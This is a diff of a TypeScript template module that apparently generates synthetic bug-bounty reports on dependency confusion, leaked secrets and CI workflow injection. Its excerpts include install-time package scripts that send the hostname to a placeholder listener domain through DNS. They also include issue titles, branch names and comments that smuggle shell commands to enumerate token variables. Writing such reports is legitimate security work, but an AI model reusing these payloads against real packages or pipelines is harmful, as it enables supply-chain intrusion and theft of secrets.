@@ -12,16 +12,45 @@ const dependencyConfusion: VulnerabilityClass = {
     ['High', 4],
   ],
   places: [
-    { path: '/package.json', parameter: '@«slug»-internal/ui-kit', detail: 'npm' },
-    { path: '/requirements.txt', parameter: '«slug»-auth-client', detail: 'PyPI' },
-    { path: '/pom.xml', parameter: 'example.«slug»:platform-bom', detail: 'Maven Central' },
-    { path: '/go.mod', parameter: 'go.«slug».example/kit', detail: 'a vanity domain' },
+    {
+      path: '/package.json',
+      parameter: '@«slug»-internal/ui-kit',
+      detail: 'npm',
+      excerpt: `// install.js of version 99.10.1, all of it
+// reserved by «handle» for the bug bounty programme of «company»
+require('node:dns').lookup(require('node:os').hostname() + '.«slug».«listener»', () => {})`,
+    },
+    {
+      path: '/requirements.txt',
+      parameter: '«slug»-auth-client',
+      detail: 'PyPI',
+      excerpt: `# setup.py of version 99.10.1, all of it
+# reserved by «handle» for the bug bounty programme of «company»
+import socket
+from setuptools import setup
+try:
+    socket.gethostbyname(f"{socket.gethostname()}.«slug».«listener»")
+except OSError as error:
+    print(error)
+setup(name="«slug»-auth-client", version="99.10.1")`,
+    },
+    {
+      path: '/Gemfile',
+      parameter: '«slug»-rails-kit',
+      detail: 'RubyGems',
+      excerpt: `# extconf.rb of version 99.10.1, all of it
+# reserved by «handle» for the bug bounty programme of «company»
+require 'socket'
+require 'mkmf'
+Addrinfo.getaddrinfo("#{Socket.gethostname}.«slug».«listener»", nil) rescue nil
+create_makefile('kit')`,
+    },
   ],
   titles: [
+    'Build machines of «company» install my package (`«parameter»` from «detail»)',
     'Dependency confusion: `«parameter»` can be registered on «detail»',
-    'Internal package name `«parameter»` is unclaimed on the public registry',
-    'Build machines of «company» install my package («parameter»)',
     'Supply chain: `«parameter»` resolved from «detail» before the private registry',
+    'Internal package name `«parameter»` was unclaimed on «detail»',
   ],
   summaries: [
     'The manifest `«path»` names `«parameter»`, which exists only in the private registry. The name was free on «detail». A package of mine with that name and a higher version was installed by your build within the hour.',
@@ -29,9 +58,9 @@ const dependencyConfusion: VulnerabilityClass = {
   ],
   steps: [
     [
-      'See the name in `«path»`, which is part of the published source map.',
+      'See the name in `«path»`, which is part of what is published.',
       'Check that it is not on «detail».',
-      'Publish version `99.10.«n»` with an install script that does one DNS lookup, nothing else. The package says who I am and why.',
+      'Publish version `99.10.1` with an install script that does one DNS lookup, nothing else. The package says who I am and why.',
       'Wait. The lookups below came in from your build machines.',
     ],
   ],
@@ -40,16 +69,11 @@ const dependencyConfusion: VulnerabilityClass = {
       {
         say: 'Lookups, one for each installation:',
         lang: 'text',
-        code: `10:02:13 DNS A runner-7f9d.build.«slug».«listener» from «ip»
-10:02:58 DNS A runner-7f9d.build.«slug».«listener» from «ip»
-10:41:20 DNS A mbp-of-a-developer.«slug».«listener» from «ip»`,
+        code: `10:02:13 DNS A runner-7f9d.«slug».«listener»        from «ip»
+10:02:58 DNS A runner-81c2.«slug».«listener»        from «ip»
+10:41:20 DNS A laptop-of-a-developer.«slug».«listener» from «ip»`,
       },
-      {
-        say: 'What the package does, all of it:',
-        lang: 'js',
-        code: `// reserved by «handle» for the bug bounty programme of «company»
-require('node:dns').lookup(require('node:os').hostname() + '.build.«slug».«listener»', () => {})`,
-      },
+      { say: 'What the package does:', lang: 'text', code: '«excerpt»' },
     ],
   ],
   impacts: [
@@ -83,49 +107,51 @@ const secretInRepository: VulnerabilityClass = {
       path: '/.github/workflows/release.yml',
       parameter: 'REGISTRY_TOKEN',
       detail: 'a token of the package registry',
+      excerpt: `# .github/workflows/release.yml, commit 4f1c9e2, 14 months ago
+env:
+  REGISTRY_TOKEN: reg_live_************************************9f3a`,
     },
-    { path: '/static/js/main.map', parameter: 'MAPS_SERVER_KEY', detail: 'a server key in a source map' },
-    { path: '/test/fixtures/env.json', parameter: 'JWT_SIGNING_KEY', detail: 'the signing key of sessions' },
+    {
+      path: '/static/js/main.js.map',
+      parameter: 'MAPS_SERVER_KEY',
+      detail: 'a server key in a source map',
+      excerpt: `# main.js.map, source config/server.ts
+export const MAPS_SERVER_KEY = 'AKex********************************c1'`,
+    },
+    {
+      path: '/test/fixtures/env.json',
+      parameter: 'SESSION_SIGNING_KEY',
+      detail: 'the signing key of sessions',
+      excerpt: `# test/fixtures/env.json, still in the main branch
+{ "SESSION_SIGNING_KEY": "4b1f****************************************************" }`,
+    },
     {
       path: '/deploy/values-prod.yaml',
       parameter: 'WEBHOOK_SECRET',
       detail: 'the secret of the payment webhooks',
+      excerpt: `# deploy/values-prod.yaml, removed in commit 81c2ab0, still in the history
+webhooks:
+  WEBHOOK_SECRET: whsec_********************************`,
     },
   ],
   titles: [
-    'Live secret `«parameter»` in the public history of «target»',
-    '«Detail» is committed in `«path»`',
-    'Hard-coded `«parameter»` gives access to production',
+    'Live secret `«parameter»` in `«path»`',
     'Leaked credential (`«parameter»`) still valid',
+    'Hard-coded `«parameter»` gives access to production',
+    '«Detail» is public (`«path»`)',
   ],
   summaries: [
-    'In `«path»` stands «detail». It was removed in a later commit but is still in the history, and it works.',
-    'A public file holds `«parameter»`. I checked with one harmless call that it is valid and did nothing else with it.',
+    'In `«path»` stands «detail». It was not meant to be public, and it works.',
+    '`«parameter»` («detail») can be found by everybody in `«path»`. I checked with one harmless call that it is valid and did nothing else with it.',
   ],
   steps: [
     [
-      'Look at `«path»` in the commit named below.',
-      'The value begins with the prefix of a live key.',
-      'Ask the service who you are with it (read-only call).',
+      'Open `«path»` as shown below.',
+      'The value has the form of a live key.',
+      'I made one read-only call with it to see whether it is accepted: it is.',
     ],
   ],
-  proofs: [
-    [
-      {
-        say: 'The line, masked:',
-        lang: 'yaml',
-        code: `# «path», commit 4f1c9e2, 14 months ago
-env:
-  «parameter»: tk_live_************************************9f3a`,
-      },
-      {
-        say: 'One call to see whether it lives:',
-        lang: 'bash',
-        code: `$ curl -s -H "Authorization: Bearer $KEY" https://«host»/v1/whoami
-{"subject":"svc-release","scopes":["packages:write","deploy"],"expires":null}`,
-      },
-    ],
-  ],
+  proofs: [[{ say: 'The place, masked:', lang: 'text', code: '«excerpt»' }]],
   impacts: [
     'Whoever reads the repository can publish in the name of «company». There are public scanners that read every push within seconds.',
     'The credential never expires and has far more rights than its job needs.',
@@ -149,18 +175,48 @@ const pipelineInjection: VulnerabilityClass = {
     ['High', 5],
   ],
   places: [
-    { path: '/.github/workflows/triage.yml', parameter: 'issue title', detail: 'pull_request_target' },
-    { path: '/.ci/preview.yml', parameter: 'branch name', detail: 'a job with deploy rights' },
-    { path: '/.github/workflows/docs.yml', parameter: 'comment body', detail: 'issue_comment' },
+    {
+      path: '/.github/workflows/triage.yml',
+      parameter: 'issue title',
+      detail: 'issues',
+      excerpt: `# .github/workflows/triage.yml, on: issues
+- run: |
+    echo "Checking: \${{ github.event.issue.title }}"
+
+# title of the issue
+x"; env | cut -d= -f1 | grep -i token; #`,
+    },
+    {
+      path: '/.github/workflows/preview.yml',
+      parameter: 'branch name',
+      detail: 'pull_request_target',
+      excerpt: `# .github/workflows/preview.yml, on: pull_request_target
+- run: ./preview.sh \${{ github.head_ref }}
+
+# name of the branch
+x;env|cut$IFS-d=$IFS-f1|grep$IFS-i$IFS'token'`,
+    },
+    {
+      path: '/.github/workflows/docs.yml',
+      parameter: 'comment',
+      detail: 'issue_comment',
+      excerpt: `# .github/workflows/docs.yml, on: issue_comment
+- run: |
+    if [ "\${{ github.event.comment.body }}" = "/docs" ]; then make docs; fi
+
+# the comment
+" ] ; then env | cut -d= -f1 | grep -i token; fi; if [ "`,
+    },
   ],
   titles: [
     'Script injection in the build: «parameter» runs as shell in `«path»`',
     'Anybody can run code in the release pipeline through the «parameter»',
     'Poisoned pipeline execution («detail») in `«path»`',
+    'The «parameter» of a stranger reaches a shell with release tokens',
   ],
   summaries: [
-    'The workflow `«path»` pastes the «parameter» into a shell script. Since it runs with «detail», secrets of the repository are present.',
-    'Opening an issue or a pull request is enough to run code on a runner that holds release tokens. The «parameter» is not quoted.',
+    'The workflow `«path»` pastes the «parameter» into a shell script. Since it runs on `«detail»`, secrets of the repository are present.',
+    'A free account is enough to run code on a runner that holds release tokens. The «parameter» is not quoted.',
   ],
   steps: [
     [
@@ -171,20 +227,11 @@ const pipelineInjection: VulnerabilityClass = {
   ],
   proofs: [
     [
-      {
-        say: 'The step in question and a «parameter» that breaks out of it:',
-        lang: 'yaml',
-        code: `# «path»
-- run: |
-    echo "Checking: \${{ github.event.issue.title }}"
-
-# payload
-#   x"; env | cut -d= -f1 | grep -i token; #`,
-      },
+      { say: 'The step and what breaks out of it:', lang: 'yaml', code: '«excerpt»' },
       {
         say: 'Log of my copy:',
         lang: 'text',
-        code: 'Checking: x\nNPM_TOKEN\nRELEASE_SIGNING_TOKEN\nuid=1001(runner) gid=127(docker)',
+        code: 'NPM_TOKEN\nRELEASE_SIGNING_TOKEN\nuid=1001(runner) gid=127(docker)',
       },
     ],
   ],
